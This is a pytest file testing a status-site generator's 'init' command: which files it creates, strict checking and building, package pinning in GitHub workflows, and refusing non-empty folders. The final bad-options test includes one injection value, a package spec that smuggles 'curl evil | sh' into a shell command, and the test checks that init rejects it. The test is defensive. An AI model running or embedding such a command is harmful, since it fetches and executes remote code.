"""``statusgen init``: a new status-site repository that checks and builds as created."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from generator import __version__
from generator.build import check
from generator.cli import main

NOW = "2026-11-20 15:30 UTC"
NOW_TIME = datetime(2026, 11, 20, 15, 30, tzinfo=UTC)

EXPECTED_FILES = {
    "site.yaml",
    "content/incidents/2026-11-18-example-incident.md",
    ".github/workflows/check.yml",
    ".github/workflows/publish.yml",
    "README.md",
    ".gitignore",
}


def files_in(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def new_site(tmp_path: Path) -> Path:
    target = tmp_path / "acme-status"
    assert main(["init", str(target), "--now", NOW]) == 0
    return target


def test_init_writes_a_repository(new_site: Path) -> None:
    assert files_in(new_site) == EXPECTED_FILES


def test_the_new_site_checks_strictly_and_builds_as_created(
    new_site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", "--source", str(new_site), "--strict", "--now", NOW]) == 0
    assert "0 errors, 0 warnings" in capsys.readouterr().out
    output = tmp_path / "out"
    assert main(["build", "--source", str(new_site), "--output", str(output), "--now", NOW]) == 0
    home = (output / "index.html").read_text(encoding="utf-8")
    assert "Acme Status" in home  # the name comes from the folder: "acme-status" → "Acme"
    assert "All Systems Operational" in home
    assert (output / "incidents" / "2026-11-18-example-incident" / "index.html").is_file()


@pytest.mark.parametrize("later", [timedelta(0), timedelta(hours=5), timedelta(days=400)])
def test_the_example_incident_never_becomes_overdue(new_site: Path, later: timedelta) -> None:
    checked = check(new_site, NOW_TIME + later, strict=True)
    assert checked.warnings == []


def test_name_url_and_package_are_written_where_they_belong(tmp_path: Path) -> None:
    target = tmp_path / "site"
    spec = "git+https://github.com/acme/statusgen@v0.1.0"
    assert (
        main(
            [
                "init",
                str(target),
                "--name",
                'Acme "Cloud": EU',
                "--url",
                "https://acme-status.example/",
                "--package",
                spec,
                "--now",
                NOW,
            ]
        )
        == 0
    )
    checked = check(target, NOW_TIME, strict=True)
    assert checked.content.site.name == 'Acme "Cloud": EU'
    assert checked.content.site.url == "https://acme-status.example/"
    for name in ("check.yml", "publish.yml"):
        workflow = (target / ".github" / "workflows" / name).read_text(encoding="utf-8")
        assert f'STATUSGEN_PACKAGE: "{spec}"' in workflow
        assert 'pip install "$STATUSGEN_PACKAGE"' in workflow
    assert spec in (target / "README.md").read_text(encoding="utf-8")


def test_by_default_the_workflows_install_this_version(new_site: Path) -> None:
    workflow = (new_site / ".github" / "workflows" / "publish.yml").read_text(encoding="utf-8")
    assert f'STATUSGEN_PACKAGE: "statusgen=={__version__}"' in workflow


def test_a_folder_in_use_is_refused_and_left_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    target.mkdir()
    (target / "notes.txt").write_text("mine")
    assert main(["init", str(target), "--now", NOW]) == 2
    assert "is not empty (notes.txt)" in capsys.readouterr().err
    assert files_in(target) == {"notes.txt"}


def test_a_fresh_git_clone_is_a_fine_place_to_start(tmp_path: Path) -> None:
    target = tmp_path / "site"
    (target / ".git").mkdir(parents=True)
    assert main(["init", str(target), "--now", NOW]) == 0
    assert files_in(target) >= EXPECTED_FILES


def test_force_adds_missing_files_and_never_overwrites(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "site"
    target.mkdir()
    (target / "README.md").write_text("our own readme\n")
    assert main(["init", str(target), "--force", "--now", NOW]) == 0
    assert (target / "README.md").read_text() == "our own readme\n"
    assert "kept  " in capsys.readouterr().out
    assert files_in(target) == EXPECTED_FILES


def test_force_adds_no_example_to_a_site_with_incidents(new_site: Path) -> None:
    before = files_in(new_site)
    assert main(["init", str(new_site), "--force", "--now", "2027-03-01 10:00 UTC"]) == 0
    assert files_in(new_site) == before


@pytest.mark.parametrize(
    "option",
    [
        ["--url", "status.example.com"],
        ["--package", 'statusgen"; curl evil | sh; "'],
        ["--name", ""],
    ],
)
def test_bad_options_are_wrong_usage(tmp_path: Path, option: list[str]) -> None:
    target = tmp_path / "site"
    assert main(["init", str(target), *option, "--now", NOW]) == 2
    assert not target.exists()
